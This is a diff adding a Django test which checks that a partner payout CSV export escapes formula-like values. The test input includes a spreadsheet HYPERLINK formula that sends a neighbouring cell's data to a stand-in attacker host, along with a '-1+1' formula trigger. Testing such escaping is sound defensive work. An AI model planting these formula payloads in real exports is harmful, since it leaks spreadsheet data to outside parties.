@@ -293,3 +293,16 @@ def test_the_payout_run_command(labels, centre, capsys):
     earner(labels, 4, rail=PARTNER, centre=centre)
     call_command("payout_run", "--rail", PARTNER, "--currency", "USD")
     assert "1 lines, 0.20 USD" in capsys.readouterr().out
+
+
+def test_a_partner_csv_writes_a_formula_reference_as_text(labels, centre):
+    worker = WorkerProfileFactory().user
+    via_centre(worker, centre, reference='=HYPERLINK("http://evil.example/?"&B3)', mobile="-1+1")
+    for _ in range(4):
+        paid(labels, worker, when=LONG_AGO)
+    run = runs.run_payouts(rail_name=PARTNER, currency="USD")
+    batch = PartnerBatch.objects.get(run=run, centre=centre)
+    (row,) = csv.DictReader(io.StringIO(default_storage.open(batch.csv_name).read().decode()))
+    assert row["centre_reference"] == '\'=HYPERLINK("http://evil.example/?"&B3)'
+    assert row["mobile_money_number"] == "'-1+1"
+    assert row["amount"] == "0.20"
